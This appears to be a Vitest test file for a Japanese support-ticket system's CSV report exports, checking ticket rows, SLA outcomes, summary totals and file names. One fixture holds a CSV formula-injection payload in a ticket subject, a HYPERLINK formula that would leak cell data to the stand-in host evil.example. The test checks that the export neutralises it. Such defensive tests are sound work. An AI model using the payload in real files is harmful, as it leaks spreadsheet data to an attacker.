import { describe, expect, it } from "vitest";
import { CSV_BOM } from "./report-csv";
import {
  formatJstMinute,
  reportCsv,
  reportFileName,
  type ReportTicketRow,
  ticketsCsv,
} from "./report-csv-tables";
import { assembleTicketReport } from "./ticket-report";

const NOW = new Date("2026-11-28T10:00:00+09:00");
const ticket = (overrides: Partial<ReportTicketRow>): ReportTicketRow => ({
  number: "Q-2026-000001",
  createdAt: new Date("2026-11-27T09:00:00+09:00"),
  team: "funds",
  troubleType: "funds",
  subtype: "deposit_missing",
  status: "resolved",
  priority: "normal",
  subject: "入金が反映されません",
  firstResponseDueAt: new Date("2026-11-27T10:00:00+09:00"),
  firstRespondedAt: new Date("2026-11-27T09:30:00+09:00"),
  resolvedAt: new Date("2026-11-27T12:00:00+09:00"),
  csatScore: 4,
  ...overrides,
});

describe("report CSV files", () => {
  it("lists tickets with minutes, the SLA outcome, and a neutralized subject", () => {
    const csv = ticketsCsv(
      [
        ticket({}),
        ticket({
          number: "Q-2026-000002",
          subject: '=HYPERLINK("http://evil.example/?leak="&A1,"詳細はこちら")',
          firstRespondedAt: null,
          resolvedAt: null,
          csatScore: null,
          status: "open",
        }),
      ],
      NOW,
    );
    const lines = csv.split("\r\n");
    expect(csv.startsWith(CSV_BOM)).toBe(false);
    expect(lines[0]).toBe(
      "受付番号,受付日時,窓口,種類,区分,状態,優先度,件名,初回返信まで（分）,初回返信SLA,解決まで（分）,満足度",
    );
    expect(lines[1]).toBe(
      "Q-2026-000001,2026-11-27 09:00,入出金サポート,入出金に関するトラブル,deposit_missing,resolved,normal,入金が反映されません,30,期限内,180,4",
    );
    expect(lines[2]).toBe(
      `Q-2026-000002,2026-11-27 09:00,入出金サポート,入出金に関するトラブル,deposit_missing,open,normal,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""詳細はこちら"")",,超過,,`,
    );
    expect(lines[3]).toBe("");
  });

  it("writes a summary with a total row", () => {
    const report = assembleTicketReport({
      period: { from: "2026-11-01", to: "2026-11-02", granularity: "day" },
      windows: "all",
      raw: {
        buckets: [],
        volume: [{ bucket: "2026-11-02", troubleType: "trading", count: 4 }],
        csat: [],
        backlog: [],
        searches: [],
        feedback: { helpful: 0, notHelpful: 0 },
      },
    });
    expect(reportCsv("volume", report).split("\r\n")).toEqual([
      "期間,件数,ログインに関するトラブル,取引に関するトラブル,入出金に関するトラブル,システムに関するトラブル,セキュリティに関するトラブル,その他",
      "2026-11-01,0,0,0,0,0,0,0",
      "2026-11-02,4,0,4,0,0,0,0",
      "合計,4,0,4,0,0,0,0",
      "",
    ]);
    expect(reportCsv("sla", report).split("\r\n")[3]).toBe("合計,0,0,0,");
  });

  it("names files in ASCII", () => {
    expect(reportFileName("sla", { team: "funds", from: "2026-11-01", to: "2026-11-30" })).toBe(
      "madoguchi-sla-funds-2026-11-01_2026-11-30.csv",
    );
    expect(reportFileName("tickets", { from: "2026-11-01", to: "2026-11-30" })).toBe(
      "madoguchi-tickets-all-2026-11-01_2026-11-30.csv",
    );
    expect(formatJstMinute(new Date("2026-11-27T15:05:00Z"))).toBe("2026-11-28 00:05");
  });
});
